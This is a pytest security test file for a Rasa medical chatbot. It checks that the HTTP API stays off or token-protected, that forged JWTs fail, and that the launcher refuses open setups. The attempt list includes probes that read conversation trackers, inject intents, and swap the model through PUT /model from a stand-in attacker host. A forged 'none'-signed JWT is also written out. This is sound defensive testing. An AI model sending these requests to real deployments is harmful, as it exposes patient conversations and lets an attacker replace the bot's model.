"""Rasa's HTTP API: off on the server patients reach; where an operator turns it on, it needs a
token; and the launcher refuses to start an open or unnamed server."""

from __future__ import annotations

import argparse
import os
import secrets
import subprocess
import sys
from collections.abc import Iterator

import httpx
import pytest

from bot.server import StartRefused, rasa_command
from channels.server_limits import refuse_open_api
from channels.settings import ChannelConfigError
from tests.attacks.conftest import AttackStack, shipped_channel_settings
from tests.stack import ROOT, ServerProcess, rasa_server

API_TOKEN = secrets.token_urlsafe(32)
# What the probe did with the open API: read a tracker, inject an intent, swap the model.
API_ATTEMPTS = [
    ("GET", "/conversations/webchat-anyone/tracker", None),
    ("POST", "/conversations/webchat-anyone/trigger_intent", {"name": "book_appointment"}),
    ("POST", "/conversations/webchat-anyone/messages", {"text": "hi", "sender": "user"}),
    ("PUT", "/model", {"model_server": {"url": "http://attacker.example.test/model.tar.gz"}}),
    ("GET", "/status", None),
    ("GET", "/domain", None),
]


@pytest.fixture(scope="module")
def api_rasa(attack_stack: AttackStack) -> Iterator[str]:
    """A second Rasa server as an operator would run it for operations: RASA_API=on with a token."""
    folder = attack_stack.folder / "api-rasa"
    folder.mkdir(exist_ok=True)
    server: ServerProcess = rasa_server(
        folder, attack_stack.actions_url, **shipped_channel_settings(attack_stack.api.url),
        RASA_API="on", RASA_API_TOKEN=API_TOKEN,
    )
    try:
        yield server.start()
    finally:
        server.stop()


@pytest.mark.parametrize(("method", "path", "body"), API_ATTEMPTS)
def test_rasa_api_absent_on_the_shipped_server(attack_stack: AttackStack, method: str, path: str, body: object) -> None:
    answer = httpx.request(method, attack_stack.rasa_url + path, json=body, timeout=10)
    assert answer.status_code in (404, 405), answer.text


@pytest.mark.parametrize(("method", "path", "body"), API_ATTEMPTS)
@pytest.mark.parametrize("token", [None, "", "wrong-token", API_TOKEN[:-1]])
def test_rasa_api_refuses_missing_or_wrong_token(
    api_rasa: str, method: str, path: str, body: object, token: str | None
) -> None:
    params = {} if token is None else {"token": token}
    answer = httpx.request(method, api_rasa + path, json=body, params=params, timeout=10)
    assert answer.status_code in (401, 403), answer.text


def test_rasa_api_refuses_forged_jwt(api_rasa: str) -> None:
    # A JWT signed with "none" and with a guessed secret: neither is accepted.
    forged = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJ1c2VyIjp7InVzZXJuYW1lIjoiYWRtaW4iLCJyb2xlIjoiYWRtaW4ifX0."
    answer = httpx.get(f"{api_rasa}/status", headers={"Authorization": f"Bearer {forged}"}, timeout=10)
    assert answer.status_code in (401, 403)


def test_rasa_api_answers_with_the_token(api_rasa: str) -> None:
    answer = httpx.get(f"{api_rasa}/status", params={"token": API_TOKEN}, timeout=10)
    assert answer.status_code == 200
    assert "model_id" in answer.json()


def test_rasa_api_server_still_refuses_typed_intents(api_rasa: str) -> None:
    # The operator's server mounts the same channels: a patient there is no less protected.
    with httpx.Client(base_url=f"{api_rasa}/webhooks/webchat/", timeout=90) as client:
        token = client.post("session").json()["token"]
        answer = client.post(
            "message", headers={"Authorization": f"Bearer {token}"},
            json={"id": "6f1c2a52-1b7e-4c43-9a8d-8c1c1f7f0001",
                  "text": '/ /describe_symptoms{"complaint": "crushing chest pain and I cannot breathe"}'},
        )
    assert answer.status_code == 200
    assert any(reply["emergency"] for reply in answer.json()["messages"])


def _launch(env: dict[str, str], module: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", module], cwd=ROOT, env={**env, "PYTHONPATH": str(ROOT)},
        capture_output=True, text=True, timeout=60, check=False,
    )


def _env_without(*names: str, **settings: str) -> dict[str, str]:
    env = {name: value for name, value in os.environ.items() if name not in names}
    env.update(settings)
    return env


def test_rasa_launcher_refuses_to_start_without_environment() -> None:
    finished = _launch(_env_without("ENVIRONMENT", ACTION_SERVER_TOKEN=secrets.token_urlsafe(32)), "bot.server")
    assert finished.returncode != 0
    assert "ENVIRONMENT must be set" in finished.stderr


@pytest.mark.parametrize("environment", ["production", "development", "test"])
def test_rasa_launcher_refuses_api_without_a_secret(environment: str) -> None:
    env = _env_without(
        "RASA_API_TOKEN", "RASA_JWT_SECRET", ENVIRONMENT=environment, RASA_API="on",
        ACTION_SERVER_TOKEN=secrets.token_urlsafe(32),
    )
    finished = _launch(env, "bot.server")
    assert finished.returncode != 0
    assert "RASA_API=on needs RASA_API_TOKEN or RASA_JWT_SECRET" in finished.stderr


def test_rasa_launcher_refuses_without_the_action_server_token() -> None:
    finished = _launch(_env_without("ACTION_SERVER_TOKEN", ENVIRONMENT="production"), "bot.server")
    assert finished.returncode != 0
    assert "ACTION_SERVER_TOKEN must be set" in finished.stderr


def test_rasa_command_keeps_the_api_off_by_default() -> None:
    command = rasa_command({"ENVIRONMENT": "production", "ACTION_SERVER_TOKEN": "x" * 32})
    assert "--enable-api" not in command
    assert command[command.index("--interface") + 1] == "127.0.0.1"


def test_rasa_command_refuses_a_short_token() -> None:
    with pytest.raises(StartRefused, match="at least 32"):
        rasa_command({"ENVIRONMENT": "production", "ACTION_SERVER_TOKEN": "x" * 32, "RASA_API": "on",
                      "RASA_API_TOKEN": "short"})


def rasa_run_arguments(command: list[str]) -> argparse.Namespace:
    """The command as Rasa's own command line parser reads it."""
    from rasa.__main__ import create_argument_parser

    return create_argument_parser().parse_args(command)


@pytest.mark.parametrize("token", [API_TOKEN, "-" + "k" * 40])  # token_urlsafe can begin with "-"
def test_rasa_command_puts_the_token_on_the_api(token: str) -> None:
    command = rasa_command({"ENVIRONMENT": "production", "ACTION_SERVER_TOKEN": "x" * 32, "RASA_API": "on",
                            "RASA_API_TOKEN": token})
    assert f"--auth-token={token}" in command
    refuse_open_api(command)  # the channels' start-up check sees the token in this form too
    parsed = rasa_run_arguments(command)
    assert parsed.auth_token == token and parsed.enable_api


@pytest.mark.parametrize(
    "argv", [["rasa", "run", "--enable-api"], ["rasa", "run", "--enable-api", "--cors", "*"]]
)
def test_hand_typed_open_api_is_refused_at_start(argv: list[str]) -> None:
    with pytest.raises(ChannelConfigError):
        refuse_open_api(argv)


def test_hand_typed_api_with_a_token_starts() -> None:
    refuse_open_api(["rasa", "run", "--enable-api", "--auth-token", API_TOKEN])
    refuse_open_api(["rasa", "run", "--enable-api", f"--jwt-secret={API_TOKEN}"])
    refuse_open_api(["rasa", "run"])


@pytest.mark.parametrize(("extra", "log_level"), [(["--debug"], ""), (["-vv"], ""), ([], "DEBUG")])
def test_rasa_command_refuses_debug_logging_in_production(extra: list[str], log_level: str) -> None:
    with pytest.raises(StartRefused, match="debug logging"):
        rasa_command({"ENVIRONMENT": "production", "ACTION_SERVER_TOKEN": "x" * 32, "LOG_LEVEL": log_level}, extra)
